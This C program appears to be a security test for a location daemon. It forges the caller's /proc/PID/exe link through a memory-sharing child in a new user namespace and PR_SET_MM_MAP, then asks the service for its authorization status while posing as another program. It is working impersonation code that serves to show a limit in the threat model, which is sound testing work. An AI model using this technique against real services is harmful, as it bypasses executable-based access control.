// Has the kernel name another program's file as its executable, and then asks the service who it is.
//
//     impostor DECLARED SOCKET
//
// The limits of `Executable` that the threat model states: the link /proc/PID/exe can be set without any privilege, by a child that shares
// the memory and has a user namespace of its own. The old file must not be mapped any more, so it is replaced by copies first.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct prctl_mm_map map;

static void fail(const char *what) {
    perror(what);
    exit(1);
}

// Puts memory with the same content where the file is mapped.
static void unmap_own_file(void) {
    char own[4096] = "", line[8192];
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0)
        fail("/proc/self/exe");
    struct { unsigned long start, end; int protection; } found[32];
    int count = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps) && count < 32) {
        char flags[8];
        line[strcspn(line, "\n")] = 0;
        if (!strstr(line, own) || sscanf(line, "%lx-%lx %7s", &found[count].start, &found[count].end, flags) != 3)
            continue;
        found[count++].protection = (flags[0] == 'r' ? PROT_READ : 0) | (flags[1] == 'w' ? PROT_WRITE : 0)
            | (flags[2] == 'x' ? PROT_EXEC : 0);
    }
    if (maps)
        fclose(maps);
    for (int index = 0; index < count; index++) {
        size_t size = found[index].end - found[index].start;
        void *old = (void *)found[index].start;
        void *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED)
            fail("mmap");
        memcpy(copy, old, size);
        if (mprotect(copy, size, found[index].protection)
            || mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, old) == MAP_FAILED)
            fail("mremap");
    }
}

// Everything is to stay as it is but for the file.
static void read_map(void) {
    char text[4096] = "";
    int file = open("/proc/self/stat", O_RDONLY);
    if (file < 0 || read(file, text, sizeof text - 1) <= 0)
        fail("/proc/self/stat");
    close(file);
    unsigned long fields[64] = {0};
    char *next = strrchr(text, ')') + 2;
    for (int number = 3; number < 53 && next; number++) {
        fields[number] = strtoul(next, NULL, 10);
        next = strchr(next, ' ');
        next = next ? next + 1 : NULL;
    }
    map = (struct prctl_mm_map){
        .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
        .end_data = fields[46], .start_brk = fields[47], .brk = (unsigned long)sbrk(0), .arg_start = fields[48],
        .arg_end = fields[49], .env_start = fields[50], .env_end = fields[51],
    };
}

static int rename_parent(void *declared) {
    map.exe_fd = (unsigned)open(declared, O_RDONLY);
    return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0 ? 0 : 1;
}

int main(int count, char **arguments) {
    if (count != 3)
        return 64;
    read_map();
    unmap_own_file();
    size_t size = 1 << 16;
    char *stack = malloc(size);
    int status = 1;
    pid_t child = clone(rename_parent, stack + size, CLONE_VM | CLONE_NEWUSER | SIGCHLD, arguments[1]);
    if (child < 0 || waitpid(child, &status, 0) != child || status != 0) {
        puts("impossible here");
        return 1;
    }
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, arguments[2], sizeof address.sun_path - 1);
    int connection = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(connection, (struct sockaddr *)&address, sizeof address))
        fail("connect");
    static const char call[] = "{\"method\":\"org.locationd.Authorization.GetStatus\"}";
    if (write(connection, call, sizeof call) != sizeof call)
        fail("write");
    char answer[4096] = "";
    if (read(connection, answer, sizeof answer - 1) <= 0)
        fail("read");
    puts(answer);
    return 0;
}
